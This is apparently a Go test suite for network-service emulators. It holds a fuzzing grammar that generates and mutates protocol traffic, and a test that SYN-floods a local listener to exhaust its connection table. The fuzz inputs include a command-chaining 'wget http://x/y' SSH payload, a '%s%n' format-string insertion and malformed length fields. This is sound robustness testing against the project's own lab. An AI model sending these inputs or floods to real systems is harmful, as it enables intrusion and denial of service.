		r.Case(fmt.Sprintf("options/composed/depth%d", maxd), fp, func() interface{} { return c })
		if err := checkCompose(c); err != nil {
			r.Fail(rt, "TestOptionComposition", c, "%v", err)
		}
	})
}
