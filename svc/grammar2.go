package svc

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"regexp"

	"pgregory.net/rapid"
)

// AllServices are the 24 director-less services C01/C09 quantify over, plus "shared": a
// port that three of them (cwmp, docker, http) share, so that the server's choice by the
// first bytes is part of the path.
var AllServices = []string{"adb", "counterstrike", "cwmp", "dns", "docker", "echo", "elasticsearch", "eos", "ethereum", "ftp", "http", "https", "ipp", "ldap", "memcached", "ntp", "redis", "smtp", "snmp", "ssh-auth", "ssh-simulator", "telnet", "tftp", "vnc", "shared"}

// Traffic is what one connection (or datagram sequence) carries.
type Traffic struct {
	Service string
	UDP     bool
	Units   [][]byte   // protocol units (commands / messages / datagrams)
	SSH     *SSHScript // alternative: a scripted ssh client
	Kind    string
}

func be16(v int) []byte { return []byte{byte(v >> 8), byte(v)} }
func be32(v int) []byte { return []byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)} }

func sshString(s string) []byte { return append(be32(len(s)), []byte(s)...) }

func genVNC(t *rapid.T) [][]byte {
	u := [][]byte{[]byte("RFB 003.008\n"), {byte(rapid.SampledFrom([]int{1, 1, 1, 2, 0}).Draw(t, "sec"))}, {byte(rapid.IntRange(0, 1).Draw(t, "shared"))}}
	n := rapid.IntRange(0, 8).Draw(t, "nmsg")
	prev := ""
	for i := 0; i < n; i++ {
		kind := rapid.SampledFrom([]string{"pixfmt", "enc", "update", "update", "key", "ptr", "cut", "bad"}).Draw(t, "msg")
		if prev == "pixfmt" && rapid.Bool().Draw(t, "use-format") {
			kind = "update" // clients change the format in order to use it
		}
		prev = kind
		switch kind {
		case "pixfmt":
			bpp := byte(rapid.SampledFrom([]int{8, 16, 32, 24, 0, 64}).Draw(t, "bpp"))
			tc := byte(rapid.SampledFrom([]int{1, 1, 0}).Draw(t, "truecolour"))
			m := []byte{0, 0, 0, 0, bpp, byte(rapid.SampledFrom([]int{8, 15, 16, 24}).Draw(t, "depth")), 0, tc}
			m = append(m, be16(rapid.SampledFrom([]int{31, 255, 7}).Draw(t, "rmax"))...)
			m = append(m, be16(31)...)
			m = append(m, be16(31)...)
			m = append(m, 10, 5, 0, 0, 0, 0)
			u = append(u, m)
		case "enc":
			k := rapid.IntRange(0, 4).Draw(t, "nenc")
			m := append([]byte{2, 0}, be16(k)...)
			for j := 0; j < k; j++ {
				m = append(m, be32(rapid.SampledFrom([]int{0, 1, 2, 5, 16, -239 & 0xffffffff}).Draw(t, "enc"))...)
			}
			u = append(u, m)
		case "update":
			m := []byte{3, byte(rapid.IntRange(0, 1).Draw(t, "incr"))}
			m = append(m, be16(0)...)
			m = append(m, be16(0)...)
			m = append(m, be16(rapid.SampledFrom([]int{16, 1, 65535}).Draw(t, "w"))...)
			m = append(m, be16(12)...)
			u = append(u, m)
		case "key":
			u = append(u, append([]byte{4, 1, 0, 0}, be32(rapid.SampledFrom([]int{0x61, 0xff0d, 0xffff}).Draw(t, "key"))...))
		case "ptr":
			u = append(u, []byte{5, 1, 0, 5, 0, 6})
		case "cut":
			txt := "clipboard"
			u = append(u, append(append([]byte{6, 0, 0, 0}, be32(len(txt))...), []byte(txt)...))
		default:
			u = append(u, []byte{byte(rapid.IntRange(7, 255).Draw(t, "badcmd"))})
		}
	}
	return u
}

func adbPacket(cmd string, a0, a1 uint32, payload []byte) []byte {
	var b bytes.Buffer
	b.WriteString(cmd)
	binary.Write(&b, binary.LittleEndian, a0)
	binary.Write(&b, binary.LittleEndian, a1)
	binary.Write(&b, binary.LittleEndian, uint32(len(payload)))
	var sum uint32
	for _, c := range payload {
		sum += uint32(c)
	}
	binary.Write(&b, binary.LittleEndian, sum)
	for i := 0; i < 4; i++ {
		b.WriteByte(cmd[i] ^ 0xff)
	}
	b.Write(payload)
	return b.Bytes()
}

func genADB(t *rapid.T) [][]byte {
	u := [][]byte{adbPacket("CNXN", 0x01000000, 4096, []byte("host::\x00"))}
	n := rapid.IntRange(0, 5).Draw(t, "nmsg")
	for i := 0; i < n; i++ {
		switch rapid.SampledFrom([]string{"open", "wrte", "wrte", "okay", "clse", "junk", "short"}).Draw(t, "msg") {
		case "open":
			u = append(u, adbPacket("OPEN", 1, 0, []byte("shell:\x00")))
		case "wrte":
			u = append(u, adbPacket("WRTE", 1, 9, []byte(rapid.SampledFrom([]string{"id\r", "ls", " -la\r", "cat /proc/cpuinfo\r"}).Draw(t, "cmd"))))
		case "okay":
			u = append(u, adbPacket("OKAY", 1, 9, nil))
		case "clse":
			u = append(u, adbPacket("CLSE", 1, 9, nil))
		case "junk":
			u = append(u, adbPacket("SYNC", 0, 0, nil))
		default:
			u = append(u, []byte("WR"))
		}
	}
	return u
}

// ClientHello builds a TLS record with a ClientHello (exported pieces for other checks are in c13).
func clientHello(version int, sni string, suites []int) []byte {
	var body bytes.Buffer
	body.Write(be16(version))
	body.Write(make([]byte, 32))
	body.WriteByte(0)
	body.Write(be16(2 * len(suites)))
	for _, s := range suites {
		body.Write(be16(s))
	}
	body.Write([]byte{1, 0})
	var ext bytes.Buffer
	if sni != "" {
		var sn bytes.Buffer
		sn.Write(be16(len(sni) + 3))
		sn.WriteByte(0)
		sn.Write(be16(len(sni)))
		sn.WriteString(sni)
		ext.Write(be16(0))
		ext.Write(be16(sn.Len()))
		ext.Write(sn.Bytes())
	}
	ext.Write([]byte{0, 10, 0, 4, 0, 2, 0, 23, 0, 11, 0, 2, 1, 0})
	body.Write(be16(ext.Len()))
	body.Write(ext.Bytes())
	hs := append([]byte{1, 0}, be16(body.Len())...)
	hs = append(hs, body.Bytes()...)
	rec := append([]byte{22, 3, 1}, be16(len(hs))...)
	return append(rec, hs...)
}

func genHTTPS(t *rapid.T) [][]byte {
	ver := rapid.SampledFrom([]int{0x0303, 0x0302, 0x0301, 0x0300, 0x0304}).Draw(t, "version")
	sni := rapid.SampledFrom([]string{"", "a.example", "b.example"}).Draw(t, "sni")
	suites := rapid.SliceOfN(rapid.SampledFrom([]int{0xc02f, 0x002f, 0x009c, 0x0a0a, 0x00ff, 0xc013, 0x1301}), 1, 6).Draw(t, "suites")
	u := [][]byte{clientHello(ver, sni, suites)}
	if rapid.Bool().Draw(t, "more") {
		u = append(u, []byte{21, 3, 3, 0, 2, 1, 0}) // alert
	}
	return u
}

func ippBody(op int, endTag bool, extra []byte) []byte {
	var b bytes.Buffer
	b.Write([]byte{1, 1})
	b.Write(be16(op))
	b.Write(be32(7))
	b.WriteByte(1)
	attr := func(tag byte, name, val string) {
		b.WriteByte(tag)
		b.Write(be16(len(name)))
		b.WriteString(name)
		b.Write(be16(len(val)))
		b.WriteString(val)
	}
	attr(0x47, "attributes-charset", "utf-8")
	attr(0x48, "attributes-natural-language", "en")
	attr(0x45, "printer-uri", "ipp://lab/printers/x")
	b.Write(extra)
	if endTag {
		b.WriteByte(3)
	}
	return b.Bytes()
}

func genIPP(t *rapid.T) [][]byte {
	op := rapid.SampledFrom([]int{2, 4, 9, 11, 0x400b, 0x7777}).Draw(t, "op")
	end := rapid.IntRange(0, 3).Draw(t, "endtag") != 0
	var extra []byte
	for ne := rapid.IntRange(0, 3).Draw(t, "nextra"); ne > 0; ne-- {
		extra = append(extra, ippExtra(t)...)
	}
	body := ippBody(op, end, extra)
	if end && rapid.Bool().Draw(t, "withdoc") {
		body = append(body, bytes.Repeat([]byte("%PDF"), rapid.IntRange(1, 300).Draw(t, "doc"))...)
	}
	ct := rapid.SampledFrom([]string{"application/ipp", "application/ipp", "application/ipp", "text/plain"}).Draw(t, "ct")
	req := fmt.Sprintf("POST /printers/x HTTP/1.1\r\nHost: lab\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", ct, len(body))
	return [][]byte{append([]byte(req), body...)}
}

func ippExtra(t *rapid.T) []byte {
	var extra []byte
	switch rapid.SampledFrom([]string{"bool", "int", "range", "unknown-tag", "unknown-tag"}).Draw(t, "extra") {
	case "bool":
		extra = append([]byte{0x22}, append(append(be16(1), 'b'), 0, 1, 1)...)
	case "int":
		extra = append([]byte{0x21}, append(append(be16(1), 'i'), 0, 4, 0, 0, 0, 9)...)
	case "range":
		extra = append([]byte{0x33}, append(append(be16(1), 'r'), 0, 8, 0, 0, 0, 1, 0, 0, 0, 2)...)
	case "unknown-tag":
		// a value tag the service does not decode, with boundary name / value lengths (16 bit,
		// incl. the values that are small negative numbers when read as signed)
		lens := []int{0, 1, 2, 0x7fff, 0x8000, 0xffff, 0xfffe, 0xfffd, 0xfffc, 0xfffb, 0xfffa, 0xfff9}
		nl := rapid.SampledFrom(lens).Draw(t, "namelen")
		vl := rapid.SampledFrom(lens).Draw(t, "vallen")
		tag := byte(rapid.SampledFrom([]int{0x30, 0x31, 0x32, 0x35, 0x36, 0x13, 0x10, 0x7f}).Draw(t, "utag"))
		extra = append([]byte{tag}, be16(nl)...)
		if nl < 16 {
			extra = append(extra, bytes.Repeat([]byte("n"), nl)...)
		}
		extra = append(extra, be16(vl)...)
		if vl < 16 {
			extra = append(extra, bytes.Repeat([]byte("v"), vl)...)
		}
	}
	return extra
}

func genSSHScript(t *rapid.T, service string) *SSHScript {
	s := &SSHScript{
		User:    rapid.SampledFrom([]string{"root", "admin", "guest"}).Draw(t, "user"),
		Pass:    rapid.SampledFrom([]string{"root", "123456", "x"}).Draw(t, "pass"),
		Channel: rapid.SampledFrom([]string{"session", "session", "session", "direct-tcpip", "forwarded-tcpip", "x11"}).Draw(t, "channel"),
	}
	if s.Channel != "session" {
		ex := rapid.SampledFrom([]string{"full", "short", "empty", "huge-len"}).Draw(t, "extra")
		switch ex {
		case "full":
			e := append(sshString("198.51.100.1"), be32(80)...)
			e = append(e, sshString("10.0.0.1")...)
			e = append(e, be32(4000)...)
			s.Extra = hexs(e)
		case "short":
			s.Extra = hexs([]byte{0, 0})
		case "huge-len":
			s.Extra = hexs([]byte{0xff, 0xff, 0xff, 0xff, 'a'})
		}
	}
	n := rapid.IntRange(0, 4).Draw(t, "nreq")
	for i := 0; i < n; i++ {
		typ := rapid.SampledFrom([]string{"env", "exec", "shell", "pty-req", "subsystem", "tcpip-forward", "window-change", "bogus"}).Draw(t, "rtype")
		var p []byte
		switch rapid.SampledFrom([]string{"wellformed", "wellformed", "short1", "short2", "short3", "empty", "huge-len", "neg-len", "two-strings"}).Draw(t, "payload") {
		case "wellformed":
			p = sshString(rapid.SampledFrom([]string{"ls -la", "LANG", "sftp", "xterm", "uname -a; wget http://x/y"}).Draw(t, "val"))
			if typ == "env" {
				p = append(p, sshString("C.UTF-8")...)
			}
		case "short1":
			p = []byte{0}
		case "short2":
			p = []byte{0, 0}
		case "short3":
			p = []byte{0, 0, 1}
		case "huge-len":
			p = append([]byte{0x7f, 0xff, 0xff, 0xff}, 'a', 'b')
		case "neg-len":
			p = append([]byte{0xff, 0xff, 0xff, 0xfe}, 'a', 'b', 'c')
		case "two-strings":
			p = append(sshString("a"), sshString("b")...)
			p = append(p, 1, 2, 3)
		}
		s.Requests = append(s.Requests, SSHRequest{Type: typ, Payload: hexs(p), Reply: rapid.Bool().Draw(t, "wantreply")})
	}
	if rapid.Bool().Draw(t, "data") {
		s.Data = hexs([]byte("id\nuname -a\nexit\n"))
	}
	return s
}

func hexs(b []byte) string { return fmt.Sprintf("%x", b) }

// GenTraffic: a grammar-derived dialogue for any of the 24 services.
func GenTraffic(t *rapid.T, service string) Traffic {
	tr := Traffic{Service: service, Kind: "grammar"}
	units := func(d Dialog) [][]byte {
		var u [][]byte
		for _, c := range d.Cmds {
			u = append(u, c.Wire)
		}
		return u
	}
	if service == "shared" {
		tr = GenTraffic(t, rapid.SampledFrom(PortOf("shared").Services).Draw(t, "shared-as"))
		tr.Service = "shared"
		return tr
	}
	switch service {
	case "ftp":
		d := GenFTP(t, true)
		u := units(d)
		// also commands that need a data connection / open passive listeners
		extra := []string{"PASV", "EPSV", "LIST", "NLST", "RETR a", "STOR up.bin", "APPE up.bin", "PORT 127,0,0,1,200,1", "PORT 1,2", "EPRT |1|127.0.0.1|5000|", "EPRT |1|", "AUTH TLS", "REST 5", "RNTO x", "MKD " + string(bytes.Repeat([]byte("d"), 300))}
		k := rapid.IntRange(0, 3).Draw(t, "nextra")
		for i := 0; i < k; i++ {
			pos := rapid.IntRange(0, len(u)).Draw(t, "pos")
			line := []byte(rapid.SampledFrom(extra).Draw(t, "extra") + "\r\n")
			u = append(u[:pos], append([][]byte{line}, u[pos:]...)...)
		}
		tr.Units = u
	case "smtp", "redis", "telnet", "http", "ldap", "elasticsearch", "eos", "ethereum", "docker", "cwmp":
		tr.Units = units(GenTCP(t, service))
	case "memcached":
		if rapid.Bool().Draw(t, "udp") {
			tr.UDP = true
			tr.Units = units(GenUDP(t, service))
		} else {
			tr.Units = units(GenTCP(t, service))
		}
	case "dns", "tftp", "snmp", "counterstrike":
		tr.UDP = true
		tr.Units = units(GenUDP(t, service))
		if service == "tftp" && rapid.Bool().Draw(t, "withdata") {
			tr.Units = append(tr.Units, append([]byte{0, 3, 0, 1}, make([]byte, rapid.SampledFrom([]int{0, 100, 512}).Draw(t, "dlen"))...))
		}
	case "ntp":
		tr.UDP = true
		pkt := make([]byte, 48)
		pkt[0] = 0x1b
		tr.Units = [][]byte{pkt}
		if rapid.Bool().Draw(t, "monlist") {
			tr.Units = append(tr.Units, []byte{0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0})
		}
	case "echo":
		tr.UDP = rapid.Bool().Draw(t, "udp")
		n := rapid.IntRange(1, 3).Draw(t, "n")
		for i := 0; i < n; i++ {
			tr.Units = append(tr.Units, []byte(text(t, "echo", 200)+"\n"))
		}
	case "vnc":
		tr.Units = genVNC(t)
	case "adb":
		tr.Units = genADB(t)
	case "https":
		tr.Units = genHTTPS(t)
	case "ipp":
		tr.Units = genIPP(t)
	case "ssh-simulator", "ssh-auth":
		if rapid.IntRange(0, 3).Draw(t, "rawssh") == 0 {
			tr.Units = [][]byte{[]byte("SSH-2.0-verif_1.0\r\n"), append(be32(12), append([]byte{4, 20}, make([]byte, 10)...)...)}
		} else {
			tr.SSH = genSSHScript(t, service)
			tr.Kind = "ssh-client"
		}
	}
	return tr
}

var asciiNumber = regexp.MustCompile(`[0-9]+`)

var magics = [][]byte{[]byte("GET / HTTP/1.1\r\n\r\n"), []byte("SSH-2.0-x\r\n"), []byte("RFB 003.008\n"), []byte("CNXN"), {0x16, 0x03, 0x01}, []byte("*1\r\n$4\r\nINFO\r\n"), {0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07}, []byte("USER anonymous\r\nPASS x\r\nCWD /\r\n"), []byte("EHLO x\r\n"), {0xff, 0xff, 0xff, 0xff, 0x54}, {0, 1, 'a', 0, 'o', 0}, []byte("stats\r\n"), []byte("POST / HTTP/1.1\r\nContent-Type: application/ipp\r\nContent-Length: 9\r\n\r\n\x01\x01\x00\x0b\x00\x00\x00\x01\x01"), {0xff, 0xfd, 0x18}, {0, 0, 0, 0}, {0xff, 0xff, 0xff, 0xff}}

// Mutate applies 1..3 structure-aware mutations to a unit list.
func Mutate(t *rapid.T, units [][]byte) ([][]byte, string) {
	u := make([][]byte, len(units))
	for i := range units {
		u[i] = append([]byte(nil), units[i]...)
	}
	var kinds []string
	n := rapid.IntRange(1, 3).Draw(t, "nmut")
	for k := 0; k < n; k++ {
		if len(u) == 0 {
			u = append(u, []byte{0})
		}
		i := rapid.IntRange(0, len(u)-1).Draw(t, "unit")
		kind := rapid.SampledFrom([]string{"truncate-stream", "truncate-unit", "delete", "duplicate", "swap", "flip", "insert", "length-field", "ber-length", "ber-length", "ber-nest", "ascii-number", "splice", "repeat-many", "long-run"}).Draw(t, "mut")
		if len(berLengths(u[i], 0, nil)) > 0 && rapid.Bool().Draw(t, "ber-aware") {
			// the unit is BER (ldap, snmp): prefer the mutations that know the encoding
			kind = rapid.SampledFrom([]string{"ber-length", "ber-nest"}).Draw(t, "bermut")
		}
		kinds = append(kinds, kind)
		switch kind {
		case "truncate-stream":
			u = u[:i+1]
			if len(u[i]) > 0 {
				u[i] = u[i][:rapid.IntRange(0, len(u[i])-1).Draw(t, "at")]
			}
		case "truncate-unit":
			if len(u[i]) > 0 {
				u[i] = u[i][:rapid.IntRange(0, len(u[i])-1).Draw(t, "at")]
			}
		case "delete":
			u = append(u[:i], u[i+1:]...)
		case "duplicate":
			u = append(u[:i+1], append([][]byte{append([]byte(nil), u[i]...)}, u[i+1:]...)...)
		case "swap":
			j := rapid.IntRange(0, len(u)-1).Draw(t, "with")
			u[i], u[j] = u[j], u[i]
		case "flip":
			if len(u[i]) > 0 {
				p := rapid.IntRange(0, len(u[i])-1).Draw(t, "at")
				u[i][p] ^= byte(1 << uint(rapid.IntRange(0, 7).Draw(t, "bit")))
			}
		case "insert":
			p := rapid.IntRange(0, len(u[i])).Draw(t, "at")
			ins := rapid.SampledFrom([][]byte{{0}, {0xff}, []byte("\r\n"), {0x80}, []byte("%s%n"), bytes.Repeat([]byte("A"), 300), {0x1b, '[', 'A'}}).Draw(t, "ins")
			u[i] = append(u[i][:p], append(append([]byte(nil), ins...), u[i][p:]...)...)
		case "length-field":
			if len(u[i]) >= 2 {
				p := rapid.IntRange(0, len(u[i])-1).Draw(t, "at")
				v := rapid.SampledFrom([][]byte{{0}, {1}, {0x7f}, {0x80}, {0xff}, {0xff, 0xff}, {0x80, 0, 0, 0}, {0xff, 0xff, 0xff, 0xff}, {0x84, 0xff, 0xff, 0xff, 0xff},
					{0x85, 0x01, 0, 0, 0, 0}, {0x86, 0x01, 0, 0, 0, 0, 0}, {0x87, 0x10, 0, 0, 0, 0, 0, 0}, {0x88, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, {0x84, 0x7f, 0xff, 0xff, 0xff}}).Draw(t, "val")
				for q := 0; q < len(v) && p+q < len(u[i]); q++ {
					u[i][p+q] = v[q]
				}
			}
		case "ber-length":
			// BER protocols (ldap, snmp): replace the length octets of one (possibly nested)
			// element with a boundary value
			if locs := berLengths(u[i], 0, nil); len(locs) > 0 {
				l := locs[rapid.IntRange(0, len(locs)-1).Draw(t, "element")]
				v := rapid.SampledFrom([][]byte{{0}, {0x7f}, {0x80}, {0x81, 0xff}, {0x82, 0xff, 0xff}, {0x84, 0x7f, 0xff, 0xff, 0xff}, {0x84, 0xff, 0xff, 0xff, 0xff}, {0x85, 0x01, 0, 0, 0, 0}, {0x86, 0x01, 0, 0, 0, 0, 0}, {0x87, 0x10, 0, 0, 0, 0, 0, 0}, {0x88, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, {0x89, 1, 1, 1, 1, 1, 1, 1, 1, 1}}).Draw(t, "berlen")
				u[i] = append(append(append([]byte(nil), u[i][:l[0]]...), v...), u[i][l[1]:]...)
			} else {
				kinds[len(kinds)-1] = "ber-length(n/a)"
			}
		case "ber-nest":
			// BER protocols: a chain of consistent constructed elements, and at its bottom one
			// element whose announced length is (or is not) a lie
			d := rapid.SampledFrom([]int{1, 2, 5, 16, 31, 32, 33, 34, 40, 63, 64, 65, 100, 255, 1000}).Draw(t, "depth")
			lie := rapid.SampledFrom([][]byte{{0x02, 'h', 'i'}, {0x81, 0xff}, {0x84, 0x7f, 0xff, 0xff, 0xff}, {0x85, 0xff, 0, 0, 0, 0}, {0x86, 0x10, 0, 0, 0, 0, 0}, {0x86, 0x01, 0, 0, 0, 0, 0}, {0x87, 0x01, 0, 0, 0, 0, 0, 0}, {0x88, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}}).Draw(t, "bottom")
			el := append([]byte{rapid.SampledFrom([]byte{0x04, 0x04, 0x02, 0x80, 0x30}).Draw(t, "bottomtag")}, lie...)
			tag := rapid.SampledFrom([]byte{0x30, 0x31, 0xa0, 0x63, 0x60}).Draw(t, "nesttag")
			for q := 0; q < d; q++ {
				el = tlv(tag, el)
			}
			if rapid.Bool().Draw(t, "envelope") {
				// inside a well-formed LDAP/SNMP style envelope: SEQUENCE { INTEGER, [APPLICATION n] { .. } }
				el = tlv(0x30, berInt(rapid.IntRange(0, 300).Draw(t, "id")), tlv(rapid.SampledFrom([]byte{0x60, 0x63, 0x66, 0x68, 0x04, 0xa0}).Draw(t, "op"), el))
			}
			u[i] = el
		case "ascii-number":
			// text protocols carry lengths and counts as decimal numbers: inflate one
			if locs := asciiNumber.FindAllIndex(u[i], -1); len(locs) > 0 {
				l := locs[rapid.IntRange(0, len(locs)-1).Draw(t, "which")]
				v := rapid.SampledFrom([]string{"0", "1", "65536", "536870912", "2147483647", "2147483648", "4294967295", "4294967296", "18446744073709551615", "99999999999999999999", "-1"}).Draw(t, "num")
				u[i] = append(append(append([]byte(nil), u[i][:l[0]]...), []byte(v)...), u[i][l[1]:]...)
			}
		case "long-run":
			// fixed-size input buffers: a run of one byte value (optionally opening an escape
			// or option sequence that never ends) with a length around the usual buffer sizes
			n := rapid.SampledFrom([]int{63, 64, 65, 127, 128, 129, 254, 255, 256, 257, 300, 511, 512, 513, 1023, 1024, 1025, 2048, 4095, 4096, 4097, 8192, 16384, 65535, 65536, 70000}).Draw(t, "runlen")
			fill := rapid.SampledFrom([]byte{0x00, ' ', '0', ';', '[', 0x1b, 0x7f, 0x80, 0xff, 'A', '\r', '\t', ',', ':', '/', '.'}).Draw(t, "runbyte")
			lead := rapid.SampledFrom([][]byte{nil, nil, {0x1b}, {0x1b, '['}, {0xff, 0xfa}, {'"'}, {'('}, {'<'}}).Draw(t, "runlead")
			run := append(append([]byte(nil), lead...), bytes.Repeat([]byte{fill}, n)...)
			p := rapid.IntRange(0, len(u[i])).Draw(t, "at")
			if rapid.Bool().Draw(t, "at-start") {
				p = 0
			}
			u[i] = append(u[i][:p:p], append(run, u[i][p:]...)...)
		case "splice":
			m := rapid.SampledFrom(magics).Draw(t, "magic")
			u = append(u[:i], append([][]byte{append([]byte(nil), m...)}, u[i:]...)...)
		case "repeat-many":
			rep := rapid.IntRange(5, 60).Draw(t, "times")
			var more [][]byte
			for r := 0; r < rep; r++ {
				more = append(more, append([]byte(nil), u[i]...))
			}
			u = append(u[:i], append(more, u[i:]...)...)
		}
	}
	return u, fmt.Sprint(kinds)
}

// RawBytes: random bytes seeded with protocol magics.
func RawBytes(t *rapid.T, max int) [][]byte {
	n := rapid.IntRange(1, 4).Draw(t, "nchunks")
	var u [][]byte
	for i := 0; i < n; i++ {
		if rapid.Bool().Draw(t, "magic") {
			u = append(u, append([]byte(nil), rapid.SampledFrom(magics).Draw(t, "m")...))
		} else {
			u = append(u, rapid.SliceOfN(rapid.Byte(), 0, max/n).Draw(t, "raw"))
		}
	}
	return u
}

// berLengths returns the [start,end) offsets of the length octets of every element of a
// well-formed BER encoding (nested elements included).
func berLengths(b []byte, base int, out [][2]int) [][2]int {
	i := 0
	for i+2 <= len(b) {
		tag := b[i]
		j := i + 1
		l := int(b[j])
		end := j + 1
		if l&0x80 != 0 {
			n := l & 0x7f
			if n == 0 || n > 4 || j+1+n > len(b) {
				return out
			}
			l = 0
			for _, c := range b[j+1 : j+1+n] {
				l = l<<8 | int(c)
			}
			end = j + 1 + n
		}
		if end+l > len(b) {
			return out
		}
		out = append(out, [2]int{base + j, base + end})
		if tag&0x20 != 0 {
			out = berLengths(b[end:end+l], base+end, out)
		}
		i = end + l
	}
	return out
}
