//go:build verif && linux
// +build verif,linux

package c02

// A flood of connection attempts that meets established connections: a few hundred peers
// complete the handshake and take their time with the request (a request that arrives
// line by line keeps its handler alive), a SYN flood then fills the rest of the 65,535-slot
// state table, and while the flood goes on the waiting peers complete their requests -
// their handlers return while the receive loop is busy with the next connection attempts
// on a full table. Everything goes through the real Start() loop; oracle unchanged: child
// alive + probe event.

import (
	"fmt"
	"strings"
	"testing"
	"time"

	cl "verif/canarylab"
	"verif/vlib"
)

type fullTable struct {
	Tables string `json:"tables"`
	// Conns connections are established first (the peer reads the listener's sequence
	// number through the hook). To the HTTP ports the request is begun (request line and
	// one header line) and continued with one more header line whenever KeepaliveS seconds
	// have passed; to other ports nothing is sent until the end.
	Conns      int    `json:"conns"`
	Dport      uint16 `json:"dport"`
	KeepaliveS int    `json:"keepalive_s"`
	// Fill SYNs (one SYN retransmitted: the listener allocates a state per SYN) follow, in
	// chunks of 4,096, each chunk sent when the loop has taken the previous one
	Fill int `json:"fill"`
	// then, connection by connection in the order they were opened: the flight that
	// completes the request (pushed) followed by SynsAfter[i mod len] more SYNs, all
	// written back to back
	SynsAfter []int  `json:"syns_after"`
	Note      string `json:"note,omitempty"`
}

func httpPort(p uint16) bool { return p == 80 || p == 9200 }

func runFullTable(l cl.Local, c fullTable, wait time.Duration) (verdict error, took string, infra error) {
	cfg, err := tables(c.Tables, l)
	if err != nil {
		return nil, "", err
	}
	if c.Conns < 1 || c.Conns > 4000 || c.Fill < 0 || c.Fill > 140000 || len(c.SynsAfter) == 0 {
		return nil, "", fmt.Errorf("bad case %s", vlib.JSON(c))
	}
	ch, err := cl.StartChild()
	if err != nil {
		return nil, "", err
	}
	defer ch.Kill()
	k, err := ch.New(cfg)
	if err != nil {
		return nil, "", fmt.Errorf("cannot create canary: %v", err)
	}
	type conn struct {
		sport     uint16
		next, iss uint32
	}
	frame := func(cn *conn, f cl.TCPFields) []byte {
		f.Sport, f.Dport, f.DataOff = cn.sport, c.Dport, -1
		return l.TCPFrame(peer, f)
	}
	data := func(cn *conn, s string) []byte {
		f := frame(cn, cl.TCPFields{Seq: cn.next, Ack: cn.iss + 2, Flags: cl.PSH | cl.ACK, Payload: []byte(s)})
		cn.next += uint32(len(s))
		return f
	}
	// a step that cannot be delivered or a barrier that is never reached ends the history;
	// the probe decides
	ok := func(e error) bool { return e == nil && !k.Stalled() && !ch.Dead() }
	t0 := time.Now()
	var tOpen, tFill time.Duration
	func() {
		conns := make([]*conn, c.Conns)
		var fr [][]byte
		for i := range conns {
			cn := &conn{sport: uint16(1024 + i)}
			cn.next = uint32(i)*7919 + 2
			conns[i] = cn
			fr = append(fr, frame(cn, cl.TCPFields{Seq: cn.next - 1, Flags: cl.SYN, Options: []byte{2, 4, 5, 0xb4}}))
		}
		if !ok(k.SendMany(fr)) || !ok(k.Rest()) {
			return
		}
		fr = fr[:0]
		for _, cn := range conns {
			v, _, found, err := k.ConnState(peer.IP, cn.sport, l.IP, c.Dport)
			if err != nil {
				return
			}
			if found {
				cn.iss = v
			}
			fr = append(fr, frame(cn, cl.TCPFields{Seq: cn.next, Ack: cn.iss + 2, Flags: cl.ACK}))
		}
		if !ok(k.SendMany(fr)) || !ok(k.Drained()) {
			return
		}
		keepalive := func(first bool) bool {
			if !httpPort(c.Dport) {
				return true
			}
			fr = fr[:0]
			for _, cn := range conns {
				if first {
					fr = append(fr, data(cn, "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\n"))
				} else {
					fr = append(fr, data(cn, "X-Forwarded-For: 10.0.0.1\r\n"))
				}
			}
			return ok(k.SendMany(fr)) && ok(k.Drained())
		}
		if !keepalive(true) {
			return
		}
		tOpen = time.Since(t0)
		last := time.Now()
		syn := floodFrames(l, 1, "same")[0]
		for sent := 0; sent < c.Fill; {
			n := 4096
			if n > c.Fill-sent {
				n = c.Fill - sent
			}
			fr = fr[:0]
			for i := 0; i < n; i++ {
				fr = append(fr, syn)
			}
			if !ok(k.SendMany(fr)) || !ok(k.Drained()) {
				return
			}
			sent += n
			if c.KeepaliveS > 0 && time.Since(last) > time.Duration(c.KeepaliveS)*time.Second {
				if !keepalive(false) {
					return
				}
				last = time.Now()
			}
		}
		tFill = time.Since(t0) - tOpen
		fr = fr[:0]
		for i, cn := range conns {
			if httpPort(c.Dport) {
				fr = append(fr, data(cn, "Connection: close\r\n\r\n"))
			} else {
				fr = append(fr, data(cn, "hello\r\n"))
			}
			for s := c.SynsAfter[i%len(c.SynsAfter)]; s > 0; s-- {
				fr = append(fr, syn)
			}
		}
		if ok(k.SendMany(fr)) {
			k.Rest()
		}
	}()
	verdict = feed(l, ch, k, nil, wait)
	took = fmt.Sprintf("%d connections opened in %.1fs, %d SYNs in %.1fs, all %.1fs", c.Conns, tOpen.Seconds(), c.Fill, tFill.Seconds(), time.Since(t0).Seconds())
	if verdict != nil {
		verdict = fmt.Errorf("%d peers completed the handshake to port %d and took their time with the request, %d connection attempts followed (the state table has 65,535 slots), then the peers completed their requests one after the other while the connection attempts went on: %v", c.Conns, c.Dport, c.Fill, verdict)
	}
	return verdict, took, nil
}

const fullTableRule = "a SYN flood that meets established connections: 100..600 peers complete the handshake (port 80 / 9200: the request is begun and continued with a header line every 15 s, which keeps the handler reading; port 8080 / 23: nothing is sent, the handler waits in its first read), 65,535 minus that many (full table), 2,000 fewer (table not full) or 4,000 more SYNs follow in chunks of 4,096, then every peer in the order of its arrival sends the flight that completes its request, each followed by 1 / 2 / 3 / 0 / 5 more SYNs written back to back, so that handlers return while the receive loop handles connection attempts on a full table; then the probe. non-trivial = the connections completed their handshake and the SYNs were delivered; distinct by (connections, port, fill, pattern)"

func TestFloodMeetsConnections(t *testing.T) {
	r := vlib.Open(prop)
	var rc fullTable
	// The failing interleaving is the machine's, so a failure is looked at again on fresh
	// listeners: reproduced = reported; not reproduced = reported only when the listener
	// process died with a Go panic / fatal error of its own (a death is not a matter of
	// waiting longer), otherwise counted as flaky.
	check := func(c fullTable, again int) (error, string) {
		e1, took, infra := runFullTable(env(t), c, 60*time.Second)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		if e1 == nil {
			return nil, took
		}
		for i := 0; i < again; i++ {
			e2, _, infra := runFullTable(env(t), c, 60*time.Second)
